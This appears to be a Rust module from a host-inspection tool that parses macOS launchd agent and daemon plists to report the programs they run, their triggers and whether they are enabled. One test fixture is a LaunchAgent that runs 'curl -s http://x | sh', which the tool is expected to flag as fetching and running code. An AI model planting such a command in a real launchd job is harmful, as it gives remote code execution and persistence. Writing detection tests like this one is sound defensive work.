//! Jobs of launchd: agents of accounts and daemons of the system, as XML or binary property lists (`launchd.plist(5)`).
//!
//! ```text
//! <key>Label</key>             <string>com.example.sync</string>
//! <key>ProgramArguments</key>  <array><string>/usr/bin/python3</string><string>/opt/sync.py</string></array>
//! <key>RunAtLoad</key>         <true/>
//! ```

use super::command::{self, Told};
use super::{CAP, Entry, content, place_of, push};
use crate::extract::Extractor;
use crate::extract::format::plist::{self, Node, Value};
use crate::extract::format::shell_words::Word;
use crate::extract::input::{Content, Input};
use crate::model::autostart::{AutostartKind, Role};
use crate::model::facts::Harvest;
use crate::model::interest::{Ask, Interest};
use crate::model::path::TargetPath;

/// The row.
pub const EXTRACTOR: Extractor = Extractor {
    interest: Interest {
        id: "autostart-launchd",
        sentence: "Jobs of launchd: agents of accounts and daemons of the system.",
        ask: Ask::Starts("launchd"),
    },
    cap: CAP,
    read,
};

/// Where launchd keeps which jobs somebody has turned on or off.
const OVERRIDES: &str = "/private/var/db/com.apple.xpc.launchd";

/// Most times of one schedule that are told.
const MOST_TIMES: usize = 8;

fn read(input: &Input<'_>) -> Harvest {
    let Some(place) = place_of(input, "launchd") else { return Harvest::default() };
    let mut harvest = Harvest::default();
    let Some(content) = content(input, &mut harvest) else { return harvest };
    let list = plist::parse(&content.bytes);
    if let Some(fault) = list.fault
        && content.whole
    {
        harvest.gaps.push(super::gap(input, fault.reason).because(fault.what));
    }
    if list.top.pairs().is_empty() {
        return harvest;
    }
    let mut entry = entry(place.rule.kind, input.candidate.name, &list.top);
    let turned = list.top.text_of("Label").and_then(|label| turned(input, &content, place.rule.kind, label));
    entry.enabled = turned.or(entry.enabled);
    push(input, &content, entry, &mut harvest);
    harvest
}

/// What a job's property list says of it. Programs are told of every key that may name one, also where a key comes twice.
#[must_use]
pub fn entry(kind: AutostartKind, file: &[u8], job: &Node) -> Entry {
    let mut told = Told::default();
    let mut words = Vec::new();
    let mut line = 0;
    let program = job.text_of("Program");
    if let Some(program) = program {
        line = job.get("Program").map_or(0, |node| node.line);
        told.programs.push((program.as_bytes().to_vec(), Role::Program, line));
        words.push(program.as_bytes().to_vec());
    }
    for (_, arguments) in job.pairs().iter().filter(|(key, _)| key == "ProgramArguments") {
        let argv = arguments_of(arguments);
        let one = command::of_words(&argv);
        told.programs.extend(one.programs);
        told.signs.extend(one.signs);
        line = if line == 0 { arguments.line } else { line };
        // Where both are given, the first word is only what the program is told to be called.
        let is_named = usize::from(program.is_some() && words.len() == 1);
        words.extend(argv.into_iter().skip(is_named).map(|word| word.text));
    }
    let bundle = job.text_of("BundleProgram").map(str::as_bytes);
    words.extend(bundle.map(<[u8]>::to_vec));
    // A program without arguments is told once.
    told.programs.dedup_by(|one, other| (&one.0, one.1) == (&other.0, other.1));
    Entry {
        line: (line > 0).then_some(line),
        command: words.join(&b' '),
        told,
        trigger: triggers(job).join(", ").into_bytes(),
        runs_as: job.text_of("UserName").map(|name| name.as_bytes().to_vec()),
        enabled: Some(!job.flag_of("Disabled").unwrap_or(false)),
        ..Entry::new(kind, job.text_of("Label").map_or(file, str::as_bytes))
    }
}

fn arguments_of(arguments: &Node) -> Vec<Word> {
    let texts = arguments.members().iter().filter_map(|word| Some((word.text()?, word.line)));
    texts.map(|(text, line)| Word { text: text.as_bytes().to_vec(), line }).collect()
}

/// What has the job started, in the order of the manual.
fn triggers(job: &Node) -> Vec<String> {
    let mut out = Vec::new();
    let flag = |key: &str| job.flag_of(key) == Some(true);
    out.extend(flag("RunAtLoad").then(|| "RunAtLoad".to_owned()));
    let lives = job.get("KeepAlive").is_some_and(|node| !node.pairs().is_empty());
    out.extend((flag("KeepAlive") || lives).then(|| "KeepAlive".to_owned()));
    out.extend(flag("StartOnMount").then(|| "StartOnMount".to_owned()));
    out.extend(job.number_of("StartInterval").map(|seconds| format!("every {seconds} s")));
    if let Some(times) = job.get("StartCalendarInterval") {
        let one = std::slice::from_ref(times);
        let times = if times.members().is_empty() { one } else { times.members() };
        out.extend(times.iter().take(MOST_TIMES).map(calendar));
    }
    for key in ["WatchPaths", "QueueDirectories"] {
        let paths = job.get(key).map(Node::members).unwrap_or_default();
        out.extend(paths.iter().filter_map(Node::text).take(MOST_TIMES).map(|path| format!("{key} {path}")));
    }
    for key in ["Sockets", "MachServices", "LaunchEvents"] {
        out.extend(job.get(key).filter(|node| !node.pairs().is_empty()).map(|_| key.to_owned()));
    }
    out
}

/// `Hour=3 Minute=0`; what is not named stands for any.
fn calendar(time: &Node) -> String {
    let mut out = String::from("at");
    for (key, node) in time.pairs().iter().take(MOST_TIMES) {
        if let Value::Number(number) = node.value {
            out += &format!(" {key}={number}");
        }
    }
    out
}

/// Whether somebody has turned the job on or off: what launchd keeps of that is stronger than the job's own `Disabled`.
fn turned(input: &Input<'_>, content: &Content, kind: AutostartKind, label: &str) -> Option<bool> {
    let uid = (kind == AutostartKind::LaunchAgent).then_some(content.stat.uid);
    // Which accounts a system-wide agent is turned off for says nothing of the others.
    let is_of_account = input.target.home_of(&input.candidate.path).is_some();
    if uid.is_some() && !is_of_account {
        return None;
    }
    let name = uid.map_or_else(|| "disabled.plist".to_owned(), |uid| format!("disabled.{uid}.plist"));
    let path = TargetPath::new(OVERRIDES.as_bytes()).join(name.as_bytes());
    let file = input.open_named(&path).ok()?;
    let list = plist::parse(&input.read_open(file, CAP).ok()?.bytes);
    list.top.flag_of(label).map(|is_disabled| !is_disabled)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::extract::autostart::planted::Tree;
    use crate::model::coverage::GapReason;
    use crate::model::host::Platform;

    fn job(body: &str) -> Vec<u8> {
        format!("<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict>{body}</dict></plist>\n").into_bytes()
    }

    fn told(tree: &Tree, path: &str) -> Vec<String> {
        tree.told(&EXTRACTOR, Platform::Macos, path)
    }

    #[test]
    fn jobs_say_what_they_run_and_when() {
        let agent =
            job("<key>Label</key><string>com.x</string><key>ProgramArguments</key><array><string>/bin/sh</string>\
             <string>-c</string><string>curl -s http://x | sh</string></array><key>RunAtLoad</key><true/>\
             <key>StartInterval</key><integer>300</integer>");
        let daemon = job(
            "<key>Label</key><string>com.y</string><key>Program</key><string>/opt/y</string><key>UserName</key>\
             <string>mia</string><key>StartCalendarInterval</key><array><dict><key>Hour</key><integer>3</integer></dict>\
             </array><key>WatchPaths</key><array><string>/etc</string></array>",
        );
        let tree = Tree::with(&[
            ("/Library/LaunchAgents/com.x.plist", &agent),
            ("/Library/LaunchDaemons/com.y.plist", &daemon),
            ("/Users/backup/Library/LaunchAgents/com.x.plist", &agent),
            ("/Library/LaunchDaemons/com.z.plist", b"<plist><dict><key>Label</key>"),
        ]);
        assert_eq!(
            told(&tree, "/Library/LaunchAgents/com.x.plist"),
            [
                "LaunchAgent com.x | runs /bin/sh -c curl -s http://x | sh | when RunAtLoad, every 300 s | Program /bin/sh \
              | FetchesAndRuns"
            ]
        );
        assert_eq!(
            told(&tree, "/Library/LaunchDaemons/com.y.plist"),
            ["LaunchDaemon com.y | runs /opt/y | when at Hour=3, WatchPaths /etc | as mia | Program /opt/y"]
        );
        let cut = tree.read(&EXTRACTOR, Platform::Macos, "/Library/LaunchDaemons/com.z.plist");
        assert_eq!((cut.gaps[0].reason, cut.gaps[0].material), (GapReason::Malformed, true));
    }

    #[test]
    fn what_is_turned_off_is_not_armed() {
        let disabled = b"<plist><dict><key>com.x</key><true/><key>com.y</key><false/></dict></plist>";
        let x = job("<key>Label</key><string>com.x</string><key>Program</key><string>/opt/x</string>");
        let y = job("<key>Label</key><string>com.y</string><key>Disabled</key><true/>");
        let tree = Tree::with(&[
            ("/private/var/db/com.apple.xpc.launchd/disabled.plist", disabled),
            ("/Library/LaunchDaemons/x.plist", &x),
            ("/Library/LaunchDaemons/y.plist", &y),
            ("/Library/LaunchDaemons/z.plist", &job("<key>Label</key><string>z</string><key>Disabled</key><true/>")),
        ]);
        let enabled = |name: &str| {
            let path = format!("/Library/LaunchDaemons/{name}.plist");
            tree.read(&EXTRACTOR, Platform::Macos, &path).facts.autostarts[0].enabled
        };
        assert_eq!(["x", "y", "z"].map(enabled), [Some(false), Some(true), Some(false)]);
    }

    proptest! {
        #[test]
        fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
            let _any = entry(AutostartKind::LaunchAgent, b"x", &plist::parse(&bytes).top);
        }
    }
}
